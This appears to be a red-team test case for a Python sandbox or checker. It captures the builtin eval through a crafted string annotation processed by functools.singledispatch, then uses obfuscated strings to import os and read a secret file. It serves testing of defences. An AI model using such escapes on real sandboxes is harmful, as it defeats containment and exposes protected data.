# family: red team, round 10 (register_instance_wrapped_class_annotation)
# d.register(Maker()) is accepted for a plain class of the tool, but singledispatch then runs
# typing.get_type_hints on the INSTANCE: its __annotations__ are the class body's (string annotations there are
# judged only for shape, never for the names in them), evaluated in the globals of obj.__wrapped__, which
# update_wrapper(self, target, assigned=()) sets. "keeper[eval]" hands the builtin eval to keeper.__getitem__.
import functools

KEPT = []


class Keeper:
    def __getitem__(self, key):
        KEPT.append(key)
        return int


keeper = Keeper()


def target(value: int) -> None:
    return None


class Maker:
    value: "keeper[eval]"

    def __init__(self):
        functools.update_wrapper(self, target, assigned=())


@functools.singledispatch
def dispatch(value):
    return value


def run():
    try:
        dispatch.register(Maker())
    except TypeError:
        pass
    evaluate = KEPT[0]
    u = "_"
    osmod = evaluate(u + u + "import" + u + u + "('os')")
    return evaluate.__name__, type(osmod).__name__, osmod.getpid(), evaluate("op" + "en('/tmp/r10/work/secret.txt').read().strip()")


print(run())
